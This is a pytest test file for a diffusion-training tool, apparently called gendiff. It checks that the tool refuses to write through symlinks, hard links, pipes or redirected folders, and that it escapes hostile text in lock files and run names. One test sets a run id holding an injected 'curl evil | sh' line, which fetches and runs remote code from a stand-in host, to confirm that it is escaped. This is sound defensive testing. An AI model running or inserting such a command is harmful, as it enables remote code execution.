"""A stranger's folder is data: nothing in it makes gendiff write, cut or remove anything outside it."""

from __future__ import annotations

import fcntl
import os
import shutil
from pathlib import Path

import pytest
import torch
from command import TINY, run

from gendiff.datasets import pictures
from gendiff.errors import DataError, GendiffError
from gendiff.run.directory import Run
from gendiff.storage.cache import Cache
from gendiff.storage.files import Elsewhere, Files, put
from gendiff.storage.folder import FOLLOW, inside
from gendiff.storage.lock import locked

GO_ON = ("train", "--resume", "x", "--steps", 4)
SAMPLE = ("sample", "x", "--n", 1, "--steps", 2, "--trajectory", "--gif")
EVALUATE = ("evaluate", "x", "--n", 16, "--steps", 2, "--features", "pixels", "--no-cache")
PRECIOUS = b"precious\n"
BLACK = pictures.sheet(-torch.ones(1, 1, 8, 8))


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    folder = tmp_path_factory.mktemp("elsewhere")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        assert run("train", *TINY, "--out", "base").code == 0
    return folder / "base"


@pytest.fixture
def here(base, tmp_path, monkeypatch):
    """A run ``x``, and beside it what is none of its business."""
    shutil.copytree(base, tmp_path / "x")
    (tmp_path / "out" / "folder").mkdir(parents=True)
    (tmp_path / "out" / "file").write_bytes(PRECIOUS)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() if path.is_file() else b"" for path in folder.rglob("*")}


# --- files ------------------------------------------------------------------------------------------------------------


@pytest.fixture(params=["link", "link to nothing", "second name", "pipe", "directory"])
def trap(request, tmp_path):
    """A file that is written in place, and is none of its own."""
    victim, path = tmp_path / "victim", tmp_path / "file"
    victim.write_bytes(PRECIOUS)
    if request.param == "second name":
        os.link(victim, path)
    elif request.param == "pipe":
        os.mkfifo(path)
    elif request.param == "directory":
        path.mkdir()
    else:
        path.symlink_to("victim" if request.param == "link" else "nothing")
    yield path
    assert victim.read_bytes() == PRECIOUS
    assert not (tmp_path / "nothing").exists()


def test_nothing_is_written_in_place_through_it(trap):
    for write in (
        lambda: Files().add(trap, b"x"),
        lambda: Files().append(trap, b"x", 0),
        lambda: Files().overwrite(trap, b"x"),
    ):
        with pytest.raises((Elsewhere, FileNotFoundError)):
            write()


def test_a_lock_that_leads_elsewhere_is_refused(trap):
    trap.rename(trap.with_name(".lock"))
    with pytest.raises(DataError, match=r"\.lock' is ") as raised, locked(trap.parent, "trained", "wait"):
        pass
    assert raised.value.exit_code == 4


@pytest.mark.parametrize("write", [Files().replace, put, lambda path, _: pictures.save(path, BLACK)])
def test_what_is_replaced_is_the_link(trap, write):
    if trap.is_dir():
        with pytest.raises((OSError, GendiffError), match="directory"):
            write(trap, b"new")
        assert {path.name for path in trap.parent.iterdir()} == {"file", "victim"}, "nothing is left of the try"
        return
    write(trap, b"new")
    assert trap.is_file()
    assert not trap.is_symlink()


def test_who_holds_a_lock_is_one_short_line(tmp_path):
    (tmp_path / ".lock").write_bytes(b"a\nb\x1b[31m" + b"x" * 10**6)
    with (tmp_path / ".lock").open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        with pytest.raises(GendiffError) as raised, locked(tmp_path, "trained", "wait"):
            pass
    (owner,) = raised.value.details
    assert owner.startswith("owner: a\\nb\\x1b[31m")
    assert len(owner) < 300


def test_a_cache_writes_into_its_own_files(tmp_path):
    cache = Cache(tmp_path)
    assert cache.write("key", {"a": torch.ones(2)})
    (file,) = tmp_path.iterdir()
    (tmp_path / "victim").write_bytes(PRECIOUS)
    file.unlink()
    file.symlink_to("victim")
    assert cache.read("key") is None
    assert cache.write("key", {"a": torch.ones(2)})
    assert (tmp_path / "victim").read_bytes() == PRECIOUS


# --- folders ----------------------------------------------------------------------------------------------------------


def test_a_folder_that_is_a_link_is_said(tmp_path, monkeypatch):
    (tmp_path / "there").mkdir()
    (tmp_path / "linked").symlink_to("there")
    root = tmp_path / "linked" / "run"  # what leads to a run is its owner's business
    root.mkdir()
    assert inside(root, root / "a" / "b") == root / "a" / "b"
    (root / "a").symlink_to("..")
    with pytest.raises(DataError) as raised:
        inside(root, root / "a" / "b")
    assert str(tmp_path / "there") in str(raised.value)
    assert FOLLOW in raised.value.fix
    monkeypatch.setenv(FOLLOW, "1")
    assert inside(root, root / "a" / "b")


@pytest.mark.parametrize("name", [".lock", "README.md", "run.json", "config.toml", "metrics.jsonl"])
@pytest.mark.parametrize("link", [os.symlink, os.link])
def test_a_run_that_is_gone_on_with(here, name, link):
    file, victim = here / "x" / name, here / "out" / "file"
    if name not in (".lock", "README.md"):
        shutil.copy(file, victim)
    file.unlink(missing_ok=True)
    link(victim, file)
    before = contents(here / "out")
    assert run(*GO_ON).code == (4 if name == ".lock" else 0)
    assert contents(here / "out") == before


@pytest.mark.parametrize(
    ("name", "command"), [("checkpoints", GO_ON), ("samples", GO_ON), ("samples", SAMPLE), ("eval", EVALUATE)]
)
def test_a_folder_of_a_run_that_leads_elsewhere(here, name, command, monkeypatch):
    folder = here / "x" / name
    if folder.exists():
        shutil.copytree(folder, here / "out" / "folder", dirs_exist_ok=True)
        shutil.rmtree(folder)
    folder.symlink_to(here / "out" / "folder")
    before = contents(here / "out")
    done = run(*command)
    assert (done.code, str(here / "out" / "folder") in done.err, FOLLOW in done.err) == (4, True, True)
    assert contents(here / "out") == before
    monkeypatch.setenv(FOLLOW, "1")
    assert run(*command).code == 0


def test_samples_are_written_where_they_are_said_to_be(here):
    assert run(*SAMPLE).code == 0
    (folder,) = (here / "x" / "samples").iterdir()
    names = [path.relative_to(folder) for path in folder.rglob("*") if path.is_file()]
    assert len(names) == 5
    for name in names:
        (folder / name).unlink()
        (folder / name).symlink_to(here / "out" / "file")
    assert run(*SAMPLE).code == 0
    shutil.rmtree(folder / "events")
    (folder / "events").symlink_to(here / "out" / "folder")
    assert run(*SAMPLE).code == 4
    assert set(contents(here / "out").values()) == {b"", PRECIOUS}


def test_old_checkpoints_that_lead_elsewhere_are_links_that_go(here):
    for name in (".step-000000000009.staged", "step-000000000001"):
        (here / "x" / "checkpoints" / name).symlink_to(here / "out" / "folder")
    (here / "out" / "folder" / "file").write_bytes(PRECIOUS)
    assert run(*GO_ON).code == 0
    assert {path.name for path in (here / "x" / "checkpoints").iterdir()} == {"step-000000000003", "step-000000000004"}
    assert (here / "out" / "folder" / "file").read_bytes() == PRECIOUS


# --- text -------------------------------------------------------------------------------------------------------------


def test_a_name_is_no_line_of_the_card(here):
    opened = Run.open(here / "x")
    opened.update(id="x\n\ncurl evil | sh\n", status="do\x1b[31mne")
    again = Run.open(here / "x")
    assert again.info["id"] == "x\\n\\ncurl evil | sh\\n"
    again.write_card()
    card = (here / "x" / "README.md").read_text()
    assert "curl evil | sh" not in card.splitlines()
    assert "\x1b" not in card


def test_a_folder_with_a_line_in_its_name(here):
    assert run("train", *TINY, "--out", "a\nb").code == 0
    assert Run.open(Path("a\nb")).info["id"].startswith("a\\nb-")
